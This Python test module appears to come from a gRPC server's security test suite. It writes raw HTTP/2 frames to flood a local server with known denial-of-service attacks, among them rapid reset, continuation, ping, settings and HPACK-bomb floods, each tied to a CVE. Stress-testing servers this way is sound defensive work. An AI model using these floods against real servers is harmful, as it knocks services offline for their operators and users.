"""Floods of HTTP/2 frames: `python -m tests.grpc_layer.floods KIND PORT SECONDS [CA]` sends one.

Raw frames, since no library would send them. Each KIND is one known attack (docs/security.md).
"""

from __future__ import annotations

import json
import socket
import ssl
import sys
import time
from collections.abc import Callable, Iterator
from contextlib import suppress

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 8, 9
END_STREAM, END_HEADERS = 1, 4
METHOD = b"/grpc.health.v1.Health/Check"


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """An HTTP/2 frame."""
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


def literal(name: bytes, value: bytes) -> bytes:
    """An HPACK header without indexing or Huffman."""
    return b"\0" + bytes([len(name)]) + name + bytes([len(value)]) + value


REQUEST = (
    literal(b":method", b"POST") + literal(b":scheme", b"http") + literal(b":path", METHOD)
    + literal(b":authority", b"x") + literal(b"te", b"trailers") + literal(b"content-type", b"application/grpc")
)  # fmt: skip


def rapid_reset() -> Iterator[bytes]:
    """CVE-2023-44487: calls that are begun and reset at once."""
    for first in range(1, 1 << 30, 100):
        yield b"".join(
            frame(HEADERS, END_HEADERS | END_STREAM, stream, REQUEST) + frame(RST, 0, stream, b"\0\0\0\x08")
            for stream in range(first, first + 100, 2)
        )


def continuation() -> Iterator[bytes]:
    """CVE-2024-27316 and its kin: headers that never end."""
    yield frame(HEADERS, 0, 1, REQUEST)
    more = frame(CONTINUATION, 0, 1, literal(b"x-a", b"v" * 100) * 100)
    while True:
        yield more


def ping() -> Iterator[bytes]:
    """CVE-2019-9512: every ping has to be answered."""
    while True:
        yield frame(PING, 0, 0, b"12345678") * 100


def settings() -> Iterator[bytes]:
    """CVE-2019-9515: every SETTINGS has to be answered."""
    while True:
        yield frame(SETTINGS, 0, 0) * 100


def window_update() -> Iterator[bytes]:
    """Credit that nobody needs."""
    while True:
        yield frame(WINDOW_UPDATE, 0, 0, b"\0\0\0\1") * 100


def empty_data() -> Iterator[bytes]:
    """CVE-2019-9518: frames without content."""
    yield frame(HEADERS, END_HEADERS, 1, REQUEST)
    while True:
        yield frame(DATA, 0, 1) * 100


def hpack_bomb() -> Iterator[bytes]:
    """CVE-2016-6581: one large entry of the table, named again and again by one byte."""
    entry = b"\x40\x03x-b\x7f\xa1\x1e" + b"v" * 4000
    for stream in range(1, 1 << 30, 2):
        yield frame(HEADERS, END_HEADERS | END_STREAM, stream, (entry if stream == 1 else b"") + b"\xbe" * 16000)


def zero_window() -> Iterator[bytes]:
    """CVE-2019-9511 and 9517: replies that can never be sent."""
    yield frame(SETTINGS, 0, 0, b"\0\4\0\0\0\0")
    request = frame(DATA, END_STREAM, 0, b"\0\0\0\0\0")
    for stream in range(1, 1 << 30, 2):
        yield frame(HEADERS, END_HEADERS, stream, REQUEST) + request[:5] + stream.to_bytes(4, "big") + request[9:]


KINDS: dict[str, Callable[[], Iterator[bytes]]] = {
    "rapid_reset": rapid_reset,
    "continuation": continuation,
    "ping": ping,
    "settings": settings,
    "window_update": window_update,
    "empty_data": empty_data,
    "hpack_bomb": hpack_bomb,
    "zero_window": zero_window,
}


def connect(port: int, ca: str) -> socket.socket:
    """A connection that has said hello."""
    connection = socket.create_connection(("127.0.0.1", port), timeout=10)
    if ca:
        context = ssl.create_default_context(cafile=ca)
        context.set_alpn_protocols(["h2"])
        connection = context.wrap_socket(connection, server_hostname="127.0.0.1")
    connection.sendall(PREFACE + frame(SETTINGS, 0, 0))
    return connection


def flood(kind: str, port: int, seconds: float, ca: str = "", again: bool = True) -> dict[str, float]:
    """Send a flood, on a new connection whenever one is closed if `again`. Returns connections and bytes sent."""
    until_s = time.monotonic() + seconds
    connections = sent = 0
    while time.monotonic() < until_s and (again or not connections):
        connections += 1
        with suppress(OSError), connect(port, ca) as connection:
            for part in KINDS[kind]():
                connection.sendall(part)
                sent += len(part)
                _drain(connection)
                if time.monotonic() > until_s:
                    break
    return {"connections": connections, "sent_mb": round(sent / 1e6, 1)}


def _drain(connection: socket.socket) -> None:
    """Read what came, so that the flood is not held back. Raises OSError at the end of the connection."""
    connection.setblocking(False)
    try:
        while True:
            if not connection.recv(1 << 16):
                raise ConnectionError
    except (BlockingIOError, ssl.SSLWantReadError):
        pass
    finally:
        connection.settimeout(10)


if __name__ == "__main__":
    print(json.dumps(flood(sys.argv[1], int(sys.argv[2]), float(sys.argv[3]), *sys.argv[4:])))
